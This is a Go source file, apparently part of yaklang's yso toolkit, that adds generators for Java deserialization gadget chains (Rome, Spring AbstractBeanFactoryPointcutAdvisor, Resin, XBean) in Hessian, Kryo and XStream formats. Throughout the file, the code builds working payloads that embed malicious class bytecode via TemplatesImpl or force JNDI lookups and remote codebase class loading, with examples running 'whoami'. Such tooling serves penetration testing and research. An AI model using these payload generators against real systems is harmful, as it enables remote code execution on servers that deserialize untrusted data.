@@ -0,0 +1,286 @@
+package yso
+
+import (
+	"strings"
+
+	"github.com/yaklang/yaklang/common/javaclassparser"
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+// 参考 marshalsec 中 Hessian / Kryo / XStream 的 gadget
+
+const (
+	RomeMarshalGadgetName                                 = "Rome"
+	RomeJdbcRowSetMarshalGadgetName                       = "RomeJdbcRowSet"
+	SpringAbstractBeanFactoryPointcutAdvisorMarshalGadget = "SpringAbstractBeanFactoryPointcutAdvisor"
+	ResinMarshalGadgetName                                = "Resin"
+	XBeanMarshalGadgetName                                = "XBean"
+)
+
+var AllMarshalGadgets = map[string]*MarshalGadgetInfo{
+	RomeMarshalGadgetName: {
+		Name:    RomeMarshalGadgetName,
+		Help:    "HashMap 计算 EqualsBean 的 hashCode 时通过 ToStringBean 调用 TemplatesImpl.getOutputProperties 加载恶意类，依赖 rome 1.0",
+		Formats: []string{MarshalFormatXStream},
+	},
+	RomeJdbcRowSetMarshalGadgetName: {
+		Name:    RomeJdbcRowSetMarshalGadgetName,
+		Help:    "HashMap 计算 EqualsBean 的 hashCode 时通过 ToStringBean 调用 JdbcRowSetImpl.getDatabaseMetaData 发起 JNDI 查询，依赖 rome 1.0",
+		Formats: []string{MarshalFormatHessian, MarshalFormatHessian2},
+	},
+	SpringAbstractBeanFactoryPointcutAdvisorMarshalGadget: {
+		Name:    SpringAbstractBeanFactoryPointcutAdvisorMarshalGadget,
+		Help:    "HashMap 比较两个 hashCode 相同的 DefaultBeanFactoryPointcutAdvisor 时通过 SimpleJndiBeanFactory 发起 JNDI 查询，依赖 spring-aop 与 spring-context",
+		Formats: []string{MarshalFormatHessian, MarshalFormatHessian2, MarshalFormatKryo, MarshalFormatXStream},
+	},
+	ResinMarshalGadgetName: {
+		Name:    ResinMarshalGadgetName,
+		Help:    "XString.equals 触发 QName.toString，通过 ContinuationDirContext 从 codebase 加载 Reference 工厂类，依赖 resin 与 spring-aop",
+		Formats: []string{MarshalFormatHessian, MarshalFormatHessian2},
+	},
+	XBeanMarshalGadgetName: {
+		Name:    XBeanMarshalGadgetName,
+		Help:    "XString.equals 触发 ReadOnlyBinding.toString，解析 Reference 时从 codebase 加载工厂类，依赖 xbean-naming 与 spring-aop",
+		Formats: []string{MarshalFormatHessian, MarshalFormatHessian2, MarshalFormatXStream},
+	},
+}
+
+func newMarshalGadget(name string, root *MarshalValue, class *javaclassparser.ClassObject) *MarshalObject {
+	return &MarshalObject{Root: root, Class: class, verbose: AllMarshalGadgets[name]}
+}
+
+// generateMarshalClass 按 yso 的类生成参数生成恶意类，默认使用 RuntimeExec
+func generateMarshalClass(options ...GenClassOptionFun) (*javaclassparser.ClassObject, error) {
+	config := NewClassConfig(options...)
+	if config.ClassType == "" {
+		config.ClassType = RuntimeExecClass
+	}
+	return config.GenerateClassObject()
+}
+
+func marshalClassName(obj *javaclassparser.ClassObject) string {
+	return strings.ReplaceAll(obj.GetClassName(), "/", ".")
+}
+
+// hashMapTrigger 生成 HashMap，反序列化时依次 put 触发 hashCode / equals
+func hashMapTrigger(keys ...*MarshalValue) *MarshalValue {
+	m := newMarshalMap("java.util.HashMap")
+	for _, key := range keys {
+		m.Entries = append(m.Entries, &MarshalEntry{Key: key, Value: newMarshalString(utils.RandStringBytes(4))})
+	}
+	return m
+}
+
+// springToStringTrigger 两个 HotSwappableTargetSource 的 hashCode 相同，put 第二个时 XString.equals 调用目标的 toString
+func springToStringTrigger(target *MarshalValue) *MarshalValue {
+	hotSwappable := func(v *MarshalValue) *MarshalValue {
+		return newMarshalObject("org.springframework.aop.target.HotSwappableTargetSource",
+			newMarshalField("target", "java.lang.Object", v),
+		)
+	}
+	xString := newMarshalObject("com.sun.org.apache.xpath.internal.objects.XString",
+		newMarshalField("m_parent", "com.sun.org.apache.xpath.internal.ExpressionNode", nil),
+		newMarshalField("m_obj", "java.lang.Object", newMarshalString(utils.RandStringBytes(8))),
+	)
+	return hashMapTrigger(hotSwappable(target), hotSwappable(xString))
+}
+
+func newMarshalTemplatesImpl(class *javaclassparser.ClassObject) (*MarshalValue, error) {
+	emptyClass, err := GenEmptyClassInTemplateClassObject()
+	if err != nil {
+		return nil, err
+	}
+	// TemplatesImpl 实现了 writeObject，readObject 会重新创建 _tfactory
+	templates := newMarshalObject("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+		newMarshalField("_name", "java.lang.String", newMarshalString(utils.RandStringBytes(4))),
+		newMarshalField("_bytecodes", "[[B", &MarshalValue{
+			Kind:      MV_ARRAY,
+			ClassName: "[[B",
+			Items:     []*MarshalValue{newMarshalBytes(class.Bytes()), newMarshalBytes(emptyClass.Bytes())},
+		}),
+		newMarshalField("_class", "[Ljava.lang.Class;", nil),
+		newMarshalField("_transletIndex", "int", newMarshalInt(-1)),
+		newMarshalField("_outputProperties", "java.util.Properties", nil),
+		newMarshalField("_indentNumber", "int", newMarshalInt(0)),
+	)
+	templates.Custom = true
+	templates.Extra = []*MarshalValue{newMarshalBool(false)}
+	return templates, nil
+}
+
+// romeTrigger EqualsBean.hashCode => ToStringBean.toString => beanClass 的所有 getter
+func romeTrigger(beanClass string, target *MarshalValue) *MarshalValue {
+	toStringBean := newMarshalObject("com.sun.syndication.feed.impl.ToStringBean",
+		newMarshalField("_beanClass", "java.lang.Class", newMarshalClass(beanClass)),
+		newMarshalField("_obj", "java.lang.Object", target),
+	)
+	equalsBean := newMarshalObject("com.sun.syndication.feed.impl.EqualsBean",
+		newMarshalField("_beanClass", "java.lang.Class", newMarshalClass("com.sun.syndication.feed.impl.ToStringBean")),
+		newMarshalField("_obj", "java.lang.Object", toStringBean),
+	)
+	return hashMapTrigger(equalsBean)
+}
+
+// GetRomeMarshalObject 生成 Rome 链，恶意类放在 TemplatesImpl 中，参数与 yso 的类生成参数一致
+// Example:
+// ```
+// obj = yso.GetRomeMarshalObject(yso.useRuntimeExecEvilClass("whoami"))~
+// println(yso.ToXStreamXML(obj)~)
+// ```
+func GetRomeMarshalObject(options ...GenClassOptionFun) (*MarshalObject, error) {
+	class, err := generateMarshalClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	templates, err := newMarshalTemplatesImpl(class)
+	if err != nil {
+		return nil, err
+	}
+	return newMarshalGadget(RomeMarshalGadgetName, romeTrigger("javax.xml.transform.Templates", templates), class), nil
+}
+
+// GetRomeJdbcRowSetMarshalObject 生成以 JdbcRowSetImpl 发起 JNDI 查询的 Rome 链，适用于不写出 transient 字段的 Hessian
+// Example:
+// ```
+// obj = yso.GetRomeJdbcRowSetMarshalObject("ldap://127.0.0.1:1389/Exploit")~
+// raw = yso.ToHessian2Bytes(obj)~
+// ```
+func GetRomeJdbcRowSetMarshalObject(jndiURL string) (*MarshalObject, error) {
+	if jndiURL == "" {
+		return nil, utils.Error("jndi url is empty")
+	}
+	strMatchColumns := newMarshalList("java.util.Vector", newMarshalString("foo"))
+	iMatchColumns := newMarshalList("java.util.Vector")
+	for i := 0; i < 10; i++ {
+		if i > 0 {
+			strMatchColumns.Items = append(strMatchColumns.Items, newMarshalNull())
+		}
+		iMatchColumns.Items = append(iMatchColumns.Items, newMarshalInt(-1))
+	}
+	rowSet := newMarshalObject("com.sun.rowset.JdbcRowSetImpl",
+		newMarshalField("dataSourceName", "java.lang.String", newMarshalString(jndiURL)),
+		newMarshalField("listeners", "java.util.Vector", nil),
+		newMarshalField("strMatchColumns", "java.util.Vector", strMatchColumns),
+		newMarshalField("iMatchColumns", "java.util.Vector", iMatchColumns),
+	)
+	return newMarshalGadget(RomeJdbcRowSetMarshalGadgetName, romeTrigger("com.sun.rowset.JdbcRowSetImpl", rowSet), nil), nil
+}
+
+// GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject 生成 SpringAbstractBeanFactoryPointcutAdvisor 链，反序列化时对 jndiURL 发起 JNDI 查询
+// Example:
+// ```
+// obj = yso.GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject("ldap://127.0.0.1:1389/Exploit")~
+// raw = yso.ToKryoBytes(obj)~
+// ```
+func GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject(jndiURL string) (*MarshalObject, error) {
+	if jndiURL == "" {
+		return nil, utils.Error("jndi url is empty")
+	}
+	noOpLog := func() *MarshalValue {
+		return newMarshalObject("org.apache.commons.logging.impl.NoOpLog")
+	}
+	beanFactory := newMarshalObject("org.springframework.jndi.support.SimpleJndiBeanFactory",
+		newMarshalField("logger", "org.apache.commons.logging.Log", noOpLog()),
+		newMarshalField("jndiTemplate", "org.springframework.jndi.JndiTemplate", newMarshalObject("org.springframework.jndi.JndiTemplate",
+			newMarshalField("logger", "org.apache.commons.logging.Log", noOpLog()),
+			newMarshalField("environment", "java.util.Properties", nil),
+		)),
+		newMarshalField("resourceRef", "boolean", newMarshalBool(false)),
+		newMarshalField("shareableResources", "java.util.Set", newMarshalList("java.util.HashSet", newMarshalString(jndiURL))),
+		newMarshalField("singletonObjects", "java.util.Map", newMarshalMap("java.util.HashMap")),
+		newMarshalField("resourceTypes", "java.util.Map", newMarshalMap("java.util.HashMap")),
+	)
+	advisor := func(adviceBeanName, beanFactory *MarshalValue) *MarshalValue {
+		return newMarshalObject("org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
+			newMarshalField("adviceBeanName", "java.lang.String", adviceBeanName),
+			newMarshalField("beanFactory", "org.springframework.beans.factory.BeanFactory", beanFactory),
+			newMarshalField("order", "java.lang.Integer", nil),
+			newMarshalField("pointcut", "org.springframework.aop.Pointcut", newMarshalObject("org.springframework.aop.TruePointcut")),
+		)
+	}
+	// 后 put 的一方调用 equals，先调用自身的 getAdvice，所以把带有 beanFactory 的放在后面；
+	// 空 advisor 的 adviceBeanName 为 null，新版本 spring 中也不会因为断言提前失败
+	root := hashMapTrigger(advisor(nil, nil), advisor(newMarshalString(jndiURL), beanFactory))
+	return newMarshalGadget(SpringAbstractBeanFactoryPointcutAdvisorMarshalGadget, root, nil), nil
+}
+
+func newMarshalReference(className, factory, codebase string) *MarshalValue {
+	return newMarshalObject("javax.naming.Reference",
+		newMarshalField("className", "java.lang.String", newMarshalString(className)),
+		newMarshalField("addrs", "java.util.Vector", newMarshalList("java.util.Vector")),
+		newMarshalField("classFactory", "java.lang.String", newMarshalString(factory)),
+		newMarshalField("classFactoryLocation", "java.lang.String", newMarshalString(codebase)),
+	)
+}
+
+// GetResinMarshalObject 生成 Resin 链，反序列化时从 codebase 加载恶意类，恶意类可以通过 obj.Class 取得并放在 codebase 下
+// Example:
+// ```
+// obj = yso.GetResinMarshalObject("http://127.0.0.1:8080/", yso.useRuntimeExecEvilClass("whoami"), yso.evilClassName("Exploit"))~
+// raw = yso.ToHessian2Bytes(obj)~
+// classBytes = yso.ToBytes(obj.Class)~ // 放在 http://127.0.0.1:8080/Exploit.class
+// ```
+func GetResinMarshalObject(codebase string, options ...GenClassOptionFun) (*MarshalObject, error) {
+	if codebase == "" {
+		return nil, utils.Error("codebase is empty")
+	}
+	class, err := generateMarshalClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	// 清空 cause 等字段，避免 Throwable 自引用
+	cpe := newMarshalObject("javax.naming.CannotProceedException",
+		newMarshalField("remainingNewName", "javax.naming.Name", nil),
+		newMarshalField("environment", "java.util.Hashtable", nil),
+		newMarshalField("altName", "javax.naming.Name", nil),
+		newMarshalField("altNameCtx", "javax.naming.Context", nil),
+		newMarshalField("resolvedName", "javax.naming.Name", nil),
+		newMarshalField("resolvedObj", "java.lang.Object", newMarshalReference("Foo", marshalClassName(class), codebase)),
+		newMarshalField("remainingName", "javax.naming.Name", nil),
+		newMarshalField("rootException", "java.lang.Throwable", nil),
+		newMarshalField("detailMessage", "java.lang.String", nil),
+		newMarshalField("cause", "java.lang.Throwable", nil),
+		newMarshalField("stackTrace", "[Ljava.lang.StackTraceElement;", nil),
+		newMarshalField("suppressedExceptions", "java.util.List", nil),
+	)
+	context := newMarshalObject("javax.naming.spi.ContinuationDirContext",
+		newMarshalField("cpe", "javax.naming.CannotProceedException", cpe),
+		newMarshalField("env", "java.util.Hashtable", newMarshalMap("java.util.Hashtable")),
+		newMarshalField("contCtx", "javax.naming.Context", nil),
+	)
+	qName := newMarshalObject("com.caucho.naming.QName",
+		newMarshalField("_context", "javax.naming.Context", context),
+		newMarshalField("_items", "java.util.ArrayList", newMarshalList("java.util.ArrayList", newMarshalString("foo"), newMarshalString("bar"))),
+	)
+	return newMarshalGadget(ResinMarshalGadgetName, springToStringTrigger(qName), class), nil
+}
+
+// GetXBeanMarshalObject 生成 XBean 链，反序列化时从 codebase 加载恶意类，恶意类可以通过 obj.Class 取得并放在 codebase 下
+// Example:
+// ```
+// obj = yso.GetXBeanMarshalObject("http://127.0.0.1:8080/", yso.useRuntimeExecEvilClass("whoami"), yso.evilClassName("Exploit"))~
+// println(yso.ToXStreamXML(obj)~)
+// ```
+func GetXBeanMarshalObject(codebase string, options ...GenClassOptionFun) (*MarshalObject, error) {
+	if codebase == "" {
+		return nil, utils.Error("codebase is empty")
+	}
+	class, err := generateMarshalClass(options...)
+	if err != nil {
+		return nil, err
+	}
+	reference := func() *MarshalValue {
+		return newMarshalReference("foo", marshalClassName(class), codebase)
+	}
+	binding := newMarshalObject("org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding",
+		newMarshalField("name", "java.lang.String", newMarshalString("foo")),
+		newMarshalField("className", "java.lang.String", nil),
+		newMarshalField("fullName", "java.lang.String", newMarshalString("<<<<<<<<<")),
+		newMarshalField("isRel", "boolean", newMarshalBool(true)),
+		newMarshalField("boundObj", "java.lang.Object", reference()),
+		newMarshalField("value", "java.lang.Object", reference()),
+		newMarshalField("context", "javax.naming.Context", newMarshalObject("org.apache.xbean.naming.context.WritableContext")),
+		newMarshalField("isRelative", "boolean", newMarshalBool(false)),
+	)
+	return newMarshalGadget(XBeanMarshalGadgetName, springToStringTrigger(binding), class), nil
+}